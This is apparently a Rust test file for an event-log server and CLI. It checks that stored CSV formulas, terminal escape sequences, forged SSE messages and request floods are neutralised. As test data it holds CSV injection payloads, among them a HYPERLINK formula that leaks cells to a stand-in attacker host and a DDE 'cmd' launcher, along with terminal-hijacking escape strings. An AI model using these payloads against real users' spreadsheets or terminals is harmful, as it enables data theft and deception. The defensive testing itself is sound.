//! Issue 12, the people and tools that read the log: stored formulas reach
//! no spreadsheet live (CSV over HTTP and in the CLI), stored control
//! characters reach no terminal raw (tables, `tail`, `cat`, `query` on a
//! real pseudo-terminal), a live replay reads forward by `seq`.

use std::fs::File;
use std::io::Read;
use std::os::fd::{FromRawFd, OwnedFd};
use std::process::{Command, Stdio};

use evlog::{Config, Event, EventLog, EventType};
use serde_json::{Value, json};

use crate::serve::{Serve, caught_up, client};
use crate::util::*;

/// Stored strings that a spreadsheet would run, and how the CSV shows them.
const FORMULAS: &[(&str, &str)] = &[
    (
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
    ),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+2", "'+1+2"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("'=quoted", "''=quoted"),
    ("harmless = text", "harmless = text"),
];

/// One hostile event per formula: the formula in every free-text column.
fn formula_events() -> Vec<Value> {
    FORMULAS
        .iter()
        .map(|(f, _)| {
            json!({"event_type": "commit", "status": "success", "user_id": f, "action_description": f,
                   "comments": f, "request_id": f, "files_changed": [f, "b.rs"],
                   "metadata": {"k": f}, "duration_ms": 1.5})
        })
        .collect()
}

/// Checks a CSV export of [`formula_events`]: every formula cell neutralised.
#[track_caller]
fn check_csv(csv_text: &str) {
    let mut r = csv::Reader::from_reader(csv_text.as_bytes());
    let head: Vec<String> = r.headers().unwrap().iter().map(str::to_string).collect();
    let col = |name: &str| head.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), FORMULAS.len(), "{csv_text}");
    for (stored, shown) in FORMULAS {
        let row = rows
            .iter()
            .find(|row| row[col("user_id")] == **shown)
            .unwrap_or_else(|| panic!("no row for {stored:?} in\n{csv_text}"));
        for c in ["action_description", "comments", "request_id"] {
            assert_eq!(&row[col(c)], *shown, "{c} of {stored:?}");
        }
        let files = format!("{stored};b.rs");
        let want = if shown == stored {
            files
        } else {
            format!("'{files}")
        };
        assert_eq!(row[col("files_changed")], want);
        assert!(row[col("metadata")].starts_with('{'));
        assert_eq!(&row[col("duration_ms")], "1.5");
    }
}

/// Issue 12: `=HYPERLINK(...)` and `=cmd|...` stored by any key-holder were
/// written to CSV as is, and ran in the spreadsheet of the admin who opened
/// the export.
#[test]
fn csv_export_neutralises_formulas_over_http_and_in_the_cli() {
    let store = Store::new();
    let s = Serve::start(&store);
    let http = client();
    let r = http
        .post(s.url("/events"))
        .header("X-API-Key", &s.admin)
        .json(&formula_events())
        .send()
        .unwrap();
    assert_eq!(r.status(), 201, "{}", r.text().unwrap());
    caught_up(&s);
    let csv_text = http
        .get(s.url("/events/export?format=csv&event_type=commit"))
        .header("X-API-Key", &s.admin)
        .send()
        .unwrap()
        .text()
        .unwrap();
    check_csv(&csv_text);
    let (status, _) = s.terminate();
    assert!(status.success());
    let out = store.run(&["query", "--event-type", "commit", "--format", "csv"], b"");
    out.expect_code(0);
    check_csv(&out.stdout);
    // `evlog export` writes the very bytes of the HTTP export.
    let out = store.run(
        &["export", "--event-type", "commit", "--format", "csv"],
        b"",
    );
    out.expect_code(0);
    assert_eq!(out.stdout, csv_text);
}

/// A description that would clear the screen, set the window title, ring
/// the bell, overwrite its own line with a fake one, and the same with a C1
/// CSI, DEL and a right-to-left override.
const HOSTILE: &str =
    "deploy ok\x1b[2J\x1b]0;pwned\x07\r\x1b[1Afake: all good\n\u{9b}31mred\u{7f}\u{202e}txt.exe";

/// A store with one hostile event (also in `user_id`) and one plain one.
fn hostile_store() -> Store {
    let store = Store::new();
    let log = EventLog::open(Config::new(store.path())).unwrap();
    log.append(Event::new(EventType::Commit, "mallory\x1b[8m", HOSTILE))
        .unwrap();
    log.append(Event::new(EventType::Commit, "dev", "plain"))
        .unwrap();
    store
}

/// Whether `text` holds a byte or character a terminal would obey, other
/// than the line ends.
fn obeyable(text: &str) -> Option<char> {
    text.chars().find(|&c| {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    })
}

/// Runs `evlog <args>` on `store` with standard output on a fresh
/// pseudo-terminal (so the command sees a terminal, as an operator's
/// would), and returns what it wrote there (the terminal's `\r\n` as `\n`).
fn on_a_terminal(store: &Store, args: &[&str]) -> String {
    // SAFETY: plain libc calls on descriptors this function owns.
    let (master, slave) = unsafe {
        let m = libc::posix_openpt(libc::O_RDWR | libc::O_NOCTTY | libc::O_CLOEXEC);
        assert!(m >= 0, "posix_openpt: {}", std::io::Error::last_os_error());
        assert_eq!(libc::grantpt(m), 0);
        assert_eq!(libc::unlockpt(m), 0);
        let mut name = [0 as libc::c_char; 128];
        assert_eq!(libc::ptsname_r(m, name.as_mut_ptr(), name.len()), 0);
        let s = libc::open(
            name.as_ptr(),
            libc::O_RDWR | libc::O_NOCTTY | libc::O_CLOEXEC,
        );
        assert!(
            s >= 0,
            "opening the pty: {}",
            std::io::Error::last_os_error()
        );
        (File::from_raw_fd(m), OwnedFd::from_raw_fd(s))
    };
    let mut child = {
        let mut cmd: Command = store.cmd();
        cmd.args(args)
            .stdin(Stdio::null())
            .stdout(Stdio::from(slave))
            .stderr(Stdio::null());
        cmd.spawn().unwrap()
        // `cmd` and with it the last descriptor of the slave in this
        // process go here, so the master reads EIO once the child is done.
    };
    let mut out = Vec::new();
    let mut buf = [0u8; 8192];
    let mut master = master;
    loop {
        match master.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => out.extend_from_slice(&buf[..n]),
            // EIO: every slave descriptor is closed.
            Err(e) if e.raw_os_error() == Some(libc::EIO) => break,
            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
            Err(e) => panic!("reading the pty: {e}"),
        }
    }
    assert!(child.wait().unwrap().success(), "evlog {args:?}");
    String::from_utf8(out).unwrap().replace("\r\n", "\n")
}

/// Issue 12: an event's description went raw to the operator's terminal:
/// `evlog query`'s table, `evlog tail` and `evlog cat` printed ESC, CR and
/// C1 controls, so a stored event could clear the screen, retitle the
/// window or print a fake line over a real one.
#[test]
fn terminal_output_shows_control_characters_instead_of_obeying_them() {
    let store = hostile_store();
    // Tables escape always, piped or not: one line per event.
    let out = store.run(&["query", "--format", "table"], b"");
    out.expect_code(0);
    assert_eq!(obeyable(&out.stdout), None, "{:?}", out.stdout);
    assert_eq!(out.stdout.lines().count(), 4, "{}", out.stdout);
    assert!(
        out.stdout.contains(
            "deploy ok\\x1b[2J\\x1b]0;pwned\\x07\\r\\x1b[1Afake: all good\\n\\u{9b}31mred\\x7f\\u{202e}txt.exe"
        ),
        "{}",
        out.stdout
    );
    assert!(out.stdout.contains("mallory\\x1b[8m"), "{}", out.stdout);

    // On a terminal: the table by default, and JSON with every control escaped.
    let table = on_a_terminal(&store, &["query"]);
    assert_eq!(obeyable(&table), None, "{table:?}");
    assert!(table.contains("fake: all good\\n"), "{table}");
    for args in [
        &["tail", "-n", "5"][..],
        &["cat"],
        &["query", "--format", "ndjson"],
    ] {
        let text = on_a_terminal(&store, args);
        assert_eq!(obeyable(&text), None, "evlog {args:?}: {text:?}");
        let descs: Vec<Value> = text
            .lines()
            .map(|l| {
                serde_json::from_str::<Value>(l)
                    .unwrap_or_else(|e| panic!("evlog {args:?}: {e}: {l:?}"))["action_description"]
                    .clone()
            })
            .collect();
        assert!(
            descs.contains(&json!(HOSTILE)),
            "evlog {args:?}: the same JSON value"
        );
        assert_eq!(descs.len(), 2, "evlog {args:?}: {text}");
    }
    // CSV on a terminal too (review of issue 12: it was written raw).
    let csv_text = on_a_terminal(&store, &["query", "--format", "csv"]);
    assert_eq!(obeyable(&csv_text), None, "{csv_text:?}");
    assert!(csv_text.contains("\\u001b[2J"), "{csv_text}");
    let text = on_a_terminal(&store, &["query", "--format", "json"]);
    assert_eq!(obeyable(&text), None, "{text:?}");
    let body: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(body["events"][1]["action_description"], HOSTILE);

    // Piped, `cat` still prints the stored lines byte for byte.
    let out = store.run(&["cat"], b"");
    out.expect_code(0);
    let stored: Vec<u8> = store.lines().join(&b'\n');
    assert_eq!(out.stdout.trim_end().as_bytes(), &stored[..]);
    assert!(out.stdout.contains('\u{9b}'));
}

/// `n` keyless `GET /events` on keep-alive connections from 127.0.0.1,
/// pipelined 100 at a time over `conns` connections; returns the number of
/// answers (each a 403).
fn keyless_flood(addr: &str, n: usize, conns: usize) -> usize {
    pipelined(addr, "GET /events", &[], 403, n, conns)
}

/// `n` requests `line` (e.g. `GET /events`) with `headers` on keep-alive
/// connections from 127.0.0.1, pipelined 100 at a time over `conns`
/// connections; returns the number of answers with `status`.
fn pipelined(
    addr: &str,
    line: &str,
    headers: &[(&str, &str)],
    status: u16,
    n: usize,
    conns: usize,
) -> usize {
    let per = n / conns;
    let mut req = format!("{line} HTTP/1.1\r\nHost: x\r\n");
    for (name, value) in headers {
        req.push_str(&format!("{name}: {value}\r\n"));
    }
    req.push_str("\r\n");
    let threads: Vec<_> = (0..conns)
        .map(|_| {
            let addr = addr.to_string();
            let req = req.clone().into_bytes();
            std::thread::spawn(move || {
                let mut c = std::net::TcpStream::connect(&addr).unwrap();
                c.set_read_timeout(Some(std::time::Duration::from_secs(60)))
                    .unwrap();
                let (mut sent, mut answered) = (0, 0);
                let mut buf = vec![0u8; 1 << 16];
                let needle = format!("HTTP/1.1 {status}").into_bytes();
                let needle = &needle[..];
                let mut carry = Vec::new();
                while sent < per {
                    let burst = (per - sent).min(100);
                    std::io::Write::write_all(&mut c, &req.repeat(burst)).unwrap();
                    sent += burst;
                    while answered < sent {
                        let got = c.read(&mut buf).unwrap();
                        assert!(got > 0, "the server closed the connection");
                        // A status line may straddle two reads: keep the
                        // bytes that could start one.
                        carry.extend_from_slice(&buf[..got]);
                        answered += memchr::memmem::find_iter(&carry, needle).count();
                        carry.drain(..carry.len().saturating_sub(needle.len() - 1));
                    }
                }
                answered
            })
        })
        .collect();
    threads.into_iter().map(|t| t.join().unwrap()).sum()
}

/// Every `auth_failure` event stored, through the admin key (all time).
fn stored_denials(s: &Serve) -> Vec<Value> {
    let text =
        client()
            .get(s.url(
                "/events/export?event_type=auth_failure&start=1970-01-01T00:00:00Z&format=ndjson",
            ))
            .header("X-API-Key", &s.admin)
            .send()
            .unwrap()
            .text()
            .unwrap();
    text.lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// One keyless `GET /events` from `from` (a loopback address), its status.
fn keyless_from(addr: &str, from: &str) -> u16 {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    rt.block_on(async {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        let sock = tokio::net::TcpSocket::new_v4().unwrap();
        sock.bind(format!("{from}:0").parse().unwrap()).unwrap();
        let mut c = sock.connect(addr.parse().unwrap()).await.unwrap();
        c.write_all(b"GET /events HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            .await
            .unwrap();
        let mut reply = String::new();
        c.read_to_string(&mut reply).await.unwrap();
        reply[9..12].parse().unwrap()
    })
}

/// Issue 12: every keyless or bad-key request was recorded as an
/// `auth_failure` event through the server's one bounded queue: a flood
/// wrote an event per request and, with the queue full, real denials (a
/// user key refused) were dropped. Now one source gets a budget (10 a
/// minute by default), the rest is counted into summaries, and keyed
/// denials have a queue the flood never reaches. The test holds the
/// writers' lock during the flood, so that nothing drains the queues.
#[test]
fn a_keyless_flood_is_summarised_and_cannot_push_out_a_real_denial() {
    let store = Store::new();
    let s = Serve::with_limits(&store, "auth_failure_summary_secs = 1");
    let http = client();
    let alice = store.add_key("user", "alice");
    // Until the server loads it, the key is refused (and counted below).
    let mut refused = 0u64;
    crate::serve::eventually("alice's key is loaded", || {
        let r = http
            .get(s.url("/events"))
            .header("X-API-Key", &alice)
            .send()
            .ok()?;
        refused += u64::from(r.status() == 401);
        (r.status() == 200).then_some(())
    });

    // Nothing is written while the test holds the writers' lock.
    let lock = store.hold_writers_lock();
    let started = std::time::Instant::now();
    let flooded = 20_000;
    assert_eq!(keyless_flood(&s.addr, flooded, 4), flooded);
    let flood = flooded as u64 + refused;
    // Another address keeps its own budget; a user key refused is recorded.
    assert_eq!(keyless_from(&s.addr, "127.0.0.2"), 403);
    let r = http
        .get(s.url("/events?user_id=bob"))
        .header("X-API-Key", &alice)
        .send()
        .unwrap();
    assert_eq!(r.status(), 403);
    lock.unlock().unwrap();

    // Every denial of the flood is either stored or counted in a summary.
    let denials = crate::serve::eventually("the flood is accounted for", || {
        let d = stored_denials(&s);
        let counted: u64 = d
            .iter()
            .filter(|e| e["source_ip"] == "127.0.0.1" && e["user_id"] == "anonymous")
            .map(|e| e["metadata"]["suppressed"].as_u64().unwrap_or(1))
            .sum();
        (counted == flood).then_some(d)
    });
    let from_flood: Vec<&Value> = denials
        .iter()
        .filter(|e| e["source_ip"] == "127.0.0.1" && e["user_id"] == "anonymous")
        .collect();
    let one_by_one = from_flood
        .iter()
        .filter(|e| e["metadata"]["summary"].is_null())
        .count() as u64;
    let budget = 10 + started.elapsed().as_secs() / 6 + 1;
    assert!(
        one_by_one <= budget,
        "{one_by_one} denials of the flood stored one by one"
    );
    assert!(
        denials.iter().any(|e| e["user_id"] == "alice"
            && e["metadata"]["code"] == "forbidden"
            && e["metadata"]["role"] == "user"),
        "the user key's denial was stored"
    );
    assert!(
        denials.iter().any(|e| e["source_ip"] == "127.0.0.2"),
        "the other address's denial was stored"
    );
    let metrics = http.get(s.url("/metrics")).send().unwrap().text().unwrap();
    let suppressed = flood - one_by_one;
    assert!(
        metrics.contains(&format!(
            "evlog_auth_failures_suppressed_total {suppressed}\n"
        )),
        "{suppressed} suppressed: {metrics}"
    );
}

/// Review of issue 12, finding 1: only denials of requests without a
/// valid key were budgeted. A key-holder's refused requests (a service
/// reading, a user asking for another user) and its probes of other users'
/// ids (the hidden 404) each went one by one to the server's queue of
/// 16,384, so a service key could flood the log and, with that queue full,
/// another key's real denial and the keyless summaries were lost
/// (`evlog_events_dropped_total` > 0). Now each key has a budget (one for
/// what is stored under its user, one for its hidden 404s, stored under
/// `evlog`), the rest counted into summaries. The writers' lock is held
/// during the floods, so that nothing drains the queues.
#[test]
fn a_keyed_flood_is_summarised_and_cannot_push_out_another_keys_denial() {
    const KEYED: usize = 20_000;
    const PROBES: usize = 200;
    const KEYLESS: usize = 2_000;
    let store = Store::new();
    let s = Serve::with_limits(&store, "auth_failure_summary_secs = 1");
    let service = store.add_key("service", "ingest");
    let alice = store.add_key("user", "alice");
    let bob = store.add_key("user", "bob");
    let ids = store.key_ids();
    let http = client();
    crate::serve::eventually("the keys are loaded", || {
        let h: Value = http.get(s.url("/health")).send().ok()?.json().ok()?;
        (h["keys"]["active"] == 4).then_some(())
    });
    let r = http
        .post(s.url("/events"))
        .header("X-API-Key", &bob)
        .json(&crate::serve::deploy("bob", "bob's own"))
        .send()
        .unwrap();
    assert_eq!(r.status(), 201);
    let bobs: Value = r.json().unwrap();
    let probe = format!("GET /events/{}", bobs["id"].as_str().unwrap());
    caught_up(&s);

    let lock = store.hold_writers_lock();
    let started = std::time::Instant::now();
    let svc = [("X-API-Key", service.as_str())];
    assert_eq!(
        pipelined(&s.addr, "GET /events", &svc, 403, KEYED, 4),
        KEYED
    );
    let al = [("X-API-Key", alice.as_str())];
    assert_eq!(pipelined(&s.addr, &probe, &al, 404, PROBES, 1), PROBES);
    assert_eq!(keyless_flood(&s.addr, KEYLESS, 2), KEYLESS);
    let r = http
        .get(s.url("/events?user_id=alice"))
        .header("X-API-Key", &bob)
        .send()
        .unwrap();
    assert_eq!(r.status(), 403);
    lock.unlock().unwrap();

    // Each flood is stored within its budget or counted in summaries.
    let of = |d: &[Value], user: &str, key: Option<&str>| -> (u64, u64) {
        let mine: Vec<&Value> = d
            .iter()
            .filter(|e| e["user_id"] == user && e["metadata"]["key_id"].as_str() == key)
            .collect();
        let one_by_one = mine
            .iter()
            .filter(|e| e["metadata"]["summary"].is_null())
            .count() as u64;
        let counted = mine
            .iter()
            .map(|e| e["metadata"]["suppressed"].as_u64().unwrap_or(0))
            .sum::<u64>();
        (one_by_one, counted)
    };
    let denials = crate::serve::eventually("the floods are accounted for", || {
        let d = stored_denials(&s);
        let accounted = |(one, counted): (u64, u64)| one + counted;
        (accounted(of(&d, "ingest", Some(&ids["ingest"]))) == KEYED as u64
            && accounted(of(&d, "evlog", Some(&ids["alice"]))) == PROBES as u64
            && accounted(of(&d, "anonymous", None)) == KEYLESS as u64)
            .then_some(d)
    });
    let budget = 10 + started.elapsed().as_secs() / 6 + 1;
    for (user, key) in [("ingest", "ingest"), ("evlog", "alice")] {
        let (one_by_one, _) = of(&denials, user, Some(&ids[key]));
        assert!(
            one_by_one <= budget,
            "{one_by_one} denials of {key}'s key stored one by one under {user}"
        );
    }
    assert!(
        denials.iter().any(|e| e["user_id"] == "bob"
            && e["metadata"]["code"] == "forbidden"
            && e["metadata"]["summary"].is_null()),
        "bob's denial was stored"
    );
    let metrics = http.get(s.url("/metrics")).send().unwrap().text().unwrap();
    assert!(
        metrics.contains("evlog_events_dropped_total 0\n"),
        "{metrics}"
    );
    // The summary of alice's hidden 404s is the admins' only.
    caught_up(&s);
    let theirs: Value = http
        .get(s.url("/events?event_type=auth_failure&start=1970-01-01T00:00:00Z"))
        .header("X-API-Key", &alice)
        .send()
        .unwrap()
        .json()
        .unwrap();
    assert_eq!(theirs["total"], 0, "{theirs}");
}

/// Issue 12: a denied request's path was stored whole (up to the 16 KiB
/// head limit) in the event's metadata and description.
#[test]
fn stored_denials_cut_the_path_to_256_bytes() {
    let store = Store::new();
    let s = Serve::start(&store);
    let long = format!("/events/{}", "a".repeat(5000));
    let r = client().get(s.url(&long)).send().unwrap();
    assert_eq!(r.status(), 403);
    let denial = crate::serve::eventually("the denial is stored", || {
        stored_denials(&s)
            .into_iter()
            .find(|e| e["metadata"]["path_bytes"] == long.len())
    });
    assert_eq!(denial["metadata"]["path"], &long[..256]);
    let desc = denial["action_description"].as_str().unwrap();
    assert!(desc.len() <= 512, "{} bytes", desc.len());
    assert!(desc.starts_with(&format!("GET {}", &long[..256])), "{desc}");
}

/// Issue 12: `evlog keys add|revoke` stored its `system_config` events under
/// the operator's `$USER`, so a `user` key named like the operator read
/// every key change. They are the server's own (user `evlog`, which no
/// `user` key can be), with the login in `metadata.operator`.
#[test]
fn key_changes_are_stored_under_evlog_with_the_operator_in_metadata() {
    let store = Store::new();
    let s = Serve::start(&store);
    let keys = |args: &[&str]| {
        let out = crate::util::run(store.cmd().env("USER", "ops").args(args), b"");
        out.expect_code(0);
        out
    };
    // A user key named like the operator, then changes it must not read.
    let ops = keys(&["keys", "add", "--role", "user", "--user", "ops"]);
    let ops = ops.stdout.trim().to_string();
    keys(&["keys", "add", "--role", "user", "--user", "bob"]);
    let bob = store.key_ids()["bob"].clone();
    keys(&["keys", "revoke", &bob]);
    let http = client();
    let all = "/events?event_type=system_config&start=1970-01-01T00:00:00Z";
    let changes: Vec<Value> = crate::serve::eventually("the key changes are indexed", || {
        let body: Value = http
            .get(s.url(all))
            .header("X-API-Key", &s.admin)
            .send()
            .ok()?
            .json()
            .ok()?;
        let ev = body["events"].as_array()?.clone();
        (ev.len() == 4).then_some(ev)
    });
    // The first admin key (by `evlog serve`) and the three changes.
    for e in &changes {
        assert_eq!(e["user_id"], "evlog", "{e}");
        assert!(e["metadata"]["operator"].is_string(), "{e}");
        // Review of issue 12, finding 6: they said nothing of who
        // appended them, unlike every other event of `evlog`.
        assert_eq!(e["appended_by"], "evlog", "{e}");
    }
    assert_eq!(
        changes
            .iter()
            .filter(|e| e["metadata"]["operator"] == "ops")
            .count(),
        3
    );
    let seen: Value = crate::serve::eventually("ops's key is loaded", || {
        let r = http.get(s.url(all)).header("X-API-Key", &ops).send().ok()?;
        (r.status() == 200).then(|| r.json().unwrap())
    });
    assert_eq!(
        seen["total"], 0,
        "a user key named like the operator: {seen}"
    );
}

/// Review of issue 12, finding 7: `POST /admin/rotate` stored its report
/// under the admin key's user, so a `user` key of that name (an admin key
/// and a user key both for `ops`) read every rotation report. It is the
/// server's own now: user `evlog`, the admin's user and key id in metadata.
#[test]
fn rotation_reports_are_stored_under_evlog_with_the_admin_in_metadata() {
    let store = Store::new();
    let admin = store.add_key_with("admin", "ops", &["--all-tenants"]);
    let admin_id = store.key_ids()["ops"].clone();
    let ops = store.add_key("user", "ops");
    let s = Serve::start(&store);
    let http = client();
    let r = http
        .post(s.url("/admin/rotate"))
        .header("X-API-Key", &admin)
        .send()
        .unwrap();
    assert_eq!(r.status(), 200, "{}", r.text().unwrap());
    let all = "/events?event_type=system_config&start=1970-01-01T00:00:00Z";
    let report = crate::serve::eventually("the rotation is indexed", || {
        let body: Value = http
            .get(s.url(all))
            .header("X-API-Key", &admin)
            .send()
            .ok()?
            .json()
            .ok()?;
        body["events"]
            .as_array()?
            .iter()
            .find(|e| e["metadata"]["bytes_before"].is_u64())
            .cloned()
    });
    assert_eq!(report["user_id"], "evlog", "{report}");
    assert_eq!(report["appended_by"], "evlog", "{report}");
    assert_eq!(report["metadata"]["operator"], "ops", "{report}");
    assert_eq!(report["metadata"]["key_id"], admin_id.as_str(), "{report}");
    let seen: Value = http
        .get(s.url(all))
        .header("X-API-Key", &ops)
        .send()
        .unwrap()
        .json()
        .unwrap();
    assert_eq!(seen["total"], 0, "the user key ops: {seen}");
}

/// The body of a chunked HTTP/1.1 response read from `r` (just after the
/// head) chunk by chunk until `enough(body so far)`: the body and the
/// number of chunks it came in.
fn read_chunks(r: &mut impl std::io::BufRead, enough: impl Fn(&str) -> bool) -> (String, usize) {
    let (mut body, mut chunks) = (Vec::new(), 0);
    while !enough(&String::from_utf8_lossy(&body)) {
        let mut size = String::new();
        assert!(r.read_line(&mut size).unwrap() > 0, "the body ended early");
        let size = usize::from_str_radix(size.trim_end(), 16).unwrap();
        assert!(size > 0, "the body ended early");
        let at = body.len();
        body.resize(at + size + 2, 0);
        r.read_exact(&mut body[at..]).unwrap();
        assert_eq!(&body[at + size..], b"\r\n");
        body.truncate(at + size);
        chunks += 1;
    }
    (String::from_utf8(body).unwrap(), chunks)
}

/// Issue 12, item 4: a replay (`Last-Event-ID: 0`) sent one SSE message,
/// one channel send and one body chunk per event (2,501 chunks here), and
/// took 1.7× an export. Now each batch the tail reads (up to 1000 events)
/// is one chunk. Stored line ends cannot break that framing: an event
/// whose text tries to end its message and forge an `end` (LF, CR, CRLF)
/// is still one `event` message of three lines, its text intact.
#[test]
fn a_replay_sends_a_chunk_per_batch_and_stored_line_ends_forge_no_message() {
    const N: usize = 2500;
    let forged = "x\n\nevent:end\ndata:{\"error\":{\"code\":\"key_revoked\"}}\n\nid:99999\r\n\r\nevent:event\rdata:{}\r\r";
    let store = Store::new();
    let s = Serve::start(&store);
    let events: Vec<Value> = (0..N)
        .map(|i| {
            json!({"event_type": "commit", "user_id": "mallory", "status": "success",
                   "action_description": format!("{i} {forged}"), "metadata": {"k\r\n": forged}})
        })
        .collect();
    let r = client()
        .post(s.url("/events"))
        .header("X-API-Key", &s.admin)
        .json(&events)
        .send()
        .unwrap();
    assert_eq!(r.status(), 201, "{}", r.text().unwrap());
    caught_up(&s);
    let examined_before = docs_examined(&s);

    let mut sock = std::net::TcpStream::connect(&s.addr).unwrap();
    sock.set_read_timeout(Some(std::time::Duration::from_secs(60)))
        .unwrap();
    std::io::Write::write_all(
        &mut sock,
        format!(
            "GET /events/stream?user_id=mallory HTTP/1.1\r\nHost: t\r\nX-API-Key: {}\r\nLast-Event-ID: 0\r\n\r\n",
            s.admin
        )
        .as_bytes(),
    )
    .unwrap();
    let mut r = std::io::BufReader::new(sock);
    let mut head = String::new();
    loop {
        let mut line = String::new();
        assert!(std::io::BufRead::read_line(&mut r, &mut line).unwrap() > 0);
        head.push_str(&line);
        if line == "\r\n" {
            break;
        }
    }
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    assert!(head.contains("content-type: text/event-stream"), "{head}");
    assert!(head.contains("transfer-encoding: chunked"), "{head}");
    let (body, chunks) = read_chunks(&mut r, |b| b.matches("\nid:").count() >= N);

    // `:ready`, then N messages of exactly `event:event`, `data:` and `id:`.
    let mut messages = body.split("\n\n");
    assert_eq!(messages.next(), Some(":ready"));
    let mut seqs = Vec::new();
    for (i, m) in messages.take(N).enumerate() {
        let lines: Vec<&str> = m.split('\n').collect();
        assert_eq!(lines.len(), 3, "message {i}: {m:?}");
        assert_eq!(lines[0], "event:event", "message {i}: {m:?}");
        let data: Value = serde_json::from_str(lines[1].strip_prefix("data:").unwrap()).unwrap();
        assert_eq!(data["action_description"], format!("{i} {forged}"));
        assert_eq!(data["metadata"]["k\r\n"], forged);
        let seq: u64 = lines[2].strip_prefix("id:").unwrap().parse().unwrap();
        assert_eq!(Some(seq), data["seq"].as_u64());
        seqs.push(seq);
    }
    assert_eq!(seqs.len(), N);
    assert!(seqs.windows(2).all(|w| w[0] < w[1]), "in seq order");
    assert!(
        !body.split('\n').any(|l| l == "event:end"),
        "no message was forged"
    );
    // `:ready` and three batches of up to 1000 (a margin for batches that
    // come short); the old code sent a chunk an event.
    eprintln!("{chunks} chunks for {N} events");
    assert!(chunks <= 10, "{chunks} chunks for {N} events");
    // And it reads forward by seq: about one document per event sent (3,299
    // measured). The newest-to-oldest walk of each batch read at least
    // 2,500 + 1,500 + 500.
    let examined = docs_examined(&s) - examined_before;
    eprintln!("{examined} documents examined to replay {N} events");
    assert!(
        examined <= (N * 8 / 5) as u64,
        "{examined} documents read to replay {N}"
    );
}

/// `evlog_index_docs_examined_total` of the server's `/metrics`.
fn docs_examined(s: &Serve) -> u64 {
    let text = client()
        .get(s.url("/metrics"))
        .send()
        .unwrap()
        .text()
        .unwrap();
    text.lines()
        .find_map(|l| l.strip_prefix("evlog_index_docs_examined_total "))
        .unwrap_or_else(|| panic!("no evlog_index_docs_examined_total in {text}"))
        .trim()
        .parse()
        .unwrap()
}

/// Issue 12, item 4: `evlog tail -f` follows forward by seq, every new event
/// printed once, in order, however many arrive between two looks.
#[test]
fn tail_follow_prints_every_new_event_once_in_seq_order() {
    const N: u64 = 2500;
    let store = written_store(&[("2026-11-20T08:00:00Z", 3)]);
    let mut child = store
        .cmd()
        .args(["tail", "-f", "-n", "1"])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let stdout = child.stdout.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for line in std::io::BufRead::lines(std::io::BufReader::new(stdout)) {
            let Ok(line) = line else { break };
            if tx.send(line).is_err() {
                break;
            }
        }
    });
    // The latest stored event first: the tail is up.
    let first = rx
        .recv_timeout(std::time::Duration::from_secs(60))
        .expect("tail printed the latest event");
    let first: Value = serde_json::from_str(&first).unwrap();
    assert_eq!(first["seq"], 3);
    let log = EventLog::open(Config::new(store.path())).unwrap();
    for chunk in (0..N).collect::<Vec<_>>().chunks(500) {
        log.append_batch(chunk.iter().map(|i| event("f", *i)).collect())
            .unwrap();
    }
    let mut seqs = Vec::new();
    while (seqs.len() as u64) < N {
        let line = rx
            .recv_timeout(std::time::Duration::from_secs(60))
            .unwrap_or_else(|_| panic!("{} of {N} followed", seqs.len()));
        let e: Value = serde_json::from_str(&line).unwrap();
        seqs.push(e["seq"].as_u64().unwrap());
    }
    let _ = child.kill();
    let _ = child.wait();
    assert_eq!(
        seqs,
        (4..4 + N).collect::<Vec<_>>(),
        "each once, in seq order"
    );
}

/// The keys of a JSON object, in the order the text holds them.
fn key_order(v: &Value) -> Vec<String> {
    v.as_object().expect("an object").keys().cloned().collect()
}

/// Issue 14: events came back from the API and the CLI with their fields
/// sorted by name (`action_description`, `appended_by`, …), not in the
/// stored order README's file format lists.
#[test]
fn events_come_back_with_their_fields_in_the_stored_order() {
    let store = Store::new();
    let s = Serve::start(&store);
    let http = client();
    let sent = json!({"user_id": "dev", "event_type": "deploy", "status": "success",
        "action_description": "ship", "metadata": {"zone": "b", "app": {"z": 1, "a": 2}},
        "request_id": "r-1", "duration_ms": 3.0});
    let r = http
        .post(s.url("/events"))
        .header("X-API-Key", &s.admin)
        .json(&sent)
        .send()
        .unwrap();
    assert_eq!(r.status(), 201);
    caught_up(&s);
    let cat = store.run(&["cat"], b"");
    let stored: Value = cat
        .stdout
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .find(|e| e["event_type"] == "deploy")
        .expect("the deploy event is stored");
    let want = key_order(&stored);
    assert_eq!(
        &want[..4],
        ["id", "timestamp", "event_type", "user_id"],
        "{}",
        cat.stdout
    );
    // Metadata is stored with its keys sorted, whatever order they came in.
    assert_eq!(key_order(&stored["metadata"]), ["app", "zone"]);
    assert_eq!(key_order(&stored["metadata"]["app"]), ["a", "z"]);
    let id = stored["id"].as_str().unwrap().to_string();
    let get = |path: &str| -> Value {
        let text = http
            .get(s.url(path))
            .header("X-API-Key", &s.admin)
            .send()
            .unwrap()
            .text()
            .unwrap();
        serde_json::from_str(&text).unwrap()
    };
    // What a reader gets: the stored fields in the stored order, then the
    // derived state (`resolved`, and when resolved `resolved_at`, `_by`).
    let want: Vec<String> = want.into_iter().chain(["resolved".to_string()]).collect();
    let page = get("/events?event_type=deploy");
    assert_eq!(key_order(&page["events"][0]), want);
    assert_eq!(key_order(&page["events"][0]["metadata"]["app"]), ["a", "z"]);
    assert_eq!(key_order(&get(&format!("/events/{id}"))), want);
    let (status, _) = s.terminate();
